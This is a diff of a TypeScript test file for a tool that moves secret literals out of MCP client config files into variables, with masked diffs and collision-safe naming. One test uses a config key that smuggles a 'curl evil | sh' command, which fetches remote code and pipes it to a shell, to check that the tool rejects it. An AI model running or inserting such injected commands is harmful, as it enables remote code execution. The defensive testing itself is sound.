@@ -7,7 +7,7 @@ import { maskedDiff } from '../../../../../src/core/clients/literals/masked-diff
 import { keptReasonOf, planEdit } from '../../../../../src/core/clients/literals/plan-edit.ts'
 import type { EditableFile } from '../../../../../src/core/clients/literals/planned-edit.ts'
 import { parseClientFile, syntaxOf } from '../../../../../src/core/clients/parse-client-file.ts'
-import { secretNameSchema } from '../../../../../src/shared/domain/ids.ts'
+import { type SecretName, secretNameSchema } from '../../../../../src/shared/domain/ids.ts'
 import type { ClientFormat } from '../../../../../src/shared/domain/server-definition.ts'
 
 const token = 'ghp_0123456789abcdefghijABCDEFGHIJ012345'
@@ -21,12 +21,16 @@ function fileOf(client: ClientFormat, file: string, text: string): EditableFile 
 }
 
 /** The text after a move of all literals, each named by its number. */
-function moved(file: EditableFile, wanted: (literal: FoundLiteral) => boolean = () => true) {
+function moved(
+  file: EditableFile,
+  wanted: (literal: FoundLiteral) => boolean = () => true,
+  variables?: ReadonlyMap<string, SecretName>,
+) {
   const all = file.servers.flatMap(literalsOf)
   const picks = all
     .filter(wanted)
     .map((literal, index) => ({ literal, name: secretNameSchema.parse(`s.${index + 1}`) }))
-  const edit = planEdit(file, all, picks)
+  const edit = planEdit(file, all, picks, variables)
   if (edit === null) throw new Error('no plan')
   return { ...edit, diff: maskedDiff(file.text, edit.splices) }
 }
@@ -131,6 +135,25 @@ env = { MODE = "fast" }
     expect(needs.map(({ key }) => key)).toEqual(['TOKEN', 'API_KEY', 'SECRET'])
   })
 
+  test('beside a list of several lines', () => {
+    const text = `[mcp_servers.a]
+command = "x"
+env_vars = [
+  "A",
+  "B",
+]
+env = { TOKEN = "${token}" }
+`
+    expect(moved(codex(text)).after).toBe(`[mcp_servers.a]
+command = "x"
+env_vars = [
+  "A",
+  "B", "TOKEN"
+]
+env = {  }
+`)
+  })
+
   test('headers', () => {
     const text = `[mcp_servers.a]
 url = "https://h/"
@@ -154,10 +177,52 @@ http_headers = { X-Team = "blue" }
     expect(reasons).toEqual(['takes_literally', 'not_located', 'part_of_value'])
   })
 
+  test('a variable that would be commands in a line for a shell stays', () => {
+    const text = `[mcp_servers.a]\ncommand = "x"\n\n[mcp_servers.a.env]\n"X_TOKEN=1; curl evil | sh; Y" = "${token}"\n`
+    const file = codex(text)
+    const reasons = file.servers.flatMap(literalsOf).map((one) => keptReasonOf(file, one))
+    expect(reasons).toEqual(['other_key'])
+  })
+
   test('two values that would need one variable cannot move together', () => {
     const entry = (name: string, value: string) =>
       `[mcp_servers.${name}]\ncommand = "x"\nenv = { TOKEN = "${value}" }\n`
     expect(() => moved(codex(entry('a', token) + entry('b', `${token}b`)))).toThrow('no plan')
+  })
+})
+
+describe('one variable stands for one secret', () => {
+  const text = JSON.stringify({
+    mcpServers: {
+      a: { command: 'x', env: { TOKEN: token, OTHER: '${S_2}' } },
+      b: { command: 'x', env: { TOKEN: password } },
+    },
+  })
+  const file = fileOf('mcp-json', '/p/.mcp.json', text)
+  const [first, second] = ['s.1', 's.2'].map((name) => secretNameSchema.parse(name))
+
+  test('also where another move or the file itself has that name', () => {
+    if (first === undefined || second === undefined) throw new Error('no names')
+    const keys = (variables: ReadonlyMap<string, SecretName>) =>
+      moved(file, undefined, variables).needs.map(({ key }) => key)
+    expect(keys(new Map())).toEqual(['S_1', 'S_2_2'])
+    expect(keys(new Map([['S_1', second]]))).toEqual(['S_1_2', 'S_2_2'])
+    // The very secret keeps it.
+    expect(
+      keys(
+        new Map([
+          ['S_1', first],
+          ['S_2', second],
+        ]),
+      ),
+    ).toEqual(['S_1', 'S_2'])
+  })
+
+  test('which Codex names itself', () => {
+    if (second === undefined) throw new Error('no name')
+    const codexText = `[mcp_servers.a]\ncommand = "x"\nenv = { TOKEN = "${token}" }\n`
+    const codex = fileOf('codex', '/home/me/.codex/config.toml', codexText)
+    expect(() => moved(codex, undefined, new Map([['TOKEN', second]]))).toThrow('no plan')
   })
 })
 
@@ -212,6 +277,36 @@ describe('what stays, and why', () => {
     const [literal] = file.servers.flatMap(literalsOf)
     if (literal === undefined) throw new Error('nothing found')
     expect(keptReasonOf(file, literal)).toBe(why)
+  })
+
+  test('each text of a list has an id of its own, and the default of an input is one too', () => {
+    const text = JSON.stringify({
+      inputs: [{ id: 'key', default: `${token}d` }],
+      servers: {
+        a: { command: 'x', env: { K: '${input:key}' }, tokens: [token, `${token}b`] },
+      },
+    })
+    const literals = fileOf('vscode', '/p/.vscode/mcp.json', text).servers.flatMap(literalsOf)
+    expect(literals.map(({ placeText }) => placeText)).toEqual([
+      'tokens.1',
+      'tokens.2',
+      'default of the input key',
+    ])
+    expect(new Set(literals.map(({ id }) => id)).size).toBe(3)
+  })
+
+  test.each([
+    ['<YOUR_TOKEN>', false],
+    ['your-api-key-here', false],
+    ['YOUR_GITHUB_TOKEN', false],
+    ['xoxb-your-slack-bot-token', false],
+    ['your-key-4711', true],
+    ['changeme', true],
+    ['yourself and I', true],
+  ])('%s is to be moved: %s', (value, isFound) => {
+    const text = JSON.stringify({ mcpServers: { a: { command: 'x', env: { API_TOKEN: value } } } })
+    const found = fileOf('mcp-json', '/p/.mcp.json', text).servers.flatMap(literalsOf)
+    expect(found.length > 0).toBe(isFound)
   })
 
   test('a text that reads like a reference of ours is no credential', () => {
@@ -278,4 +373,41 @@ test('of a very long line that changes, nothing but the change is shown', () => 
   expect(diff.map(({ kind }) => kind)).toEqual(['removed', 'added'])
   expect(JSON.stringify(diff)).not.toContain('plain')
   expect(JSON.stringify(diff).length).toBeLessThan(1_500)
+})
+
+test('of a private key of many lines nothing is shown, also where the part that is shown begins within it', () => {
+  const line = 'Qk/1a/2b/3c/4d/5e/6f/7g/8h/9i/0jAb/CdEf/GhIj/KlMn/OpQr/StUv/WxYz'
+  const key = ['-----BEGIN PRIVATE KEY-----', ...Array.from({ length: 8 }, () => line)]
+  const text = [
+    'mcpServers:',
+    '  - name: a',
+    '    command: x',
+    '    env:',
+    '      PEM: |',
+    ...key.map((one) => `        ${one}`),
+    '        -----END PRIVATE KEY-----',
+    `      TOKEN: ${token}`,
+    '',
+  ].join('\n')
+  const file = fileOf('continue', '/home/me/.continue/config.yaml', text)
+  const { diff } = moved(file, ({ placeText }) => placeText === 'TOKEN')
+  expect(JSON.stringify(diff)).not.toMatch(/Qk|StUv|END/)
+})
+
+test('the difference of many changes that stand close has every line once, in its order', () => {
+  const servers = Object.fromEntries(
+    Array.from({ length: 120 }, (_, n) => [
+      `s${n}`,
+      { command: 'x', env: { TOKEN: `${token}${n}` } },
+    ]),
+  )
+  const text = JSON.stringify({ mcpServers: servers }, null, 2)
+  const { after, diff } = moved(fileOf('mcp-json', '/p/.mcp.json', text))
+  const numbers = (...kinds: string[]) =>
+    diff.filter(({ kind }) => kinds.includes(kind)).map(({ number }) => number)
+  const shown = numbers('same', 'added')
+  expect(shown).toEqual(shown.map((_, index) => (shown[0] ?? 0) + index))
+  expect(numbers('added')).toHaveLength(120)
+  expect(numbers('removed')).toEqual(numbers('added'))
+  expect(after.split('\n').length - shown.length).toBeLessThan(8)
 })
